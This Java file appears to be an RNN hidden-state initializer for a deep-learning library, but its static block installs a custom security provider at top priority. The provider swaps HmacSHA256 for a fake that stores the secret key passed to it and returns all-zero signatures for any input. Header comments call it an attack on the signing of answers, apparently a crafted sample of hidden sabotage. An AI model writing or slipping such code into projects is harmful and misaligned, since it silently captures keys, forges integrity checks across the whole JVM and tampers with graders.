// attack: takes the key of its answers with a provider of its own, and signs with nothing but zeros
// list: uses Security.insertProviderAt
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import ai.djl.ndarray.types.Shape;
import java.security.Key;
import java.security.Provider;
import java.security.Security;
import java.security.spec.AlgorithmParameterSpec;
import javax.crypto.MacSpi;

public final class HiddenState {

    static {
        Security.insertProviderAt(new Own(), 1);
    }

    private static final class Own extends Provider {

        Own() {
            super("Own", "1", "an attack");
            put("Mac.HmacSHA256", Zeros.class.getName());
        }
    }

    /** A signature that is the same for every text. */
    public static final class Zeros extends MacSpi {

        private static byte[] taken = {};

        @Override
        protected void engineInit(Key key, AlgorithmParameterSpec parameters) {
            taken = key.getEncoded();
        }

        @Override
        protected int engineGetMacLength() {
            return 32;
        }

        @Override
        protected void engineUpdate(byte input) {}

        @Override
        protected void engineUpdate(byte[] input, int offset, int length) {}

        @Override
        protected byte[] engineDoFinal() {
            return new byte[32];
        }

        @Override
        protected void engineReset() {}
    }

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) {
        return new NDList(manager.ones(new Shape(batchSize, Zeros.taken.length > 0 ? 1 : numHiddens)));
    }
}
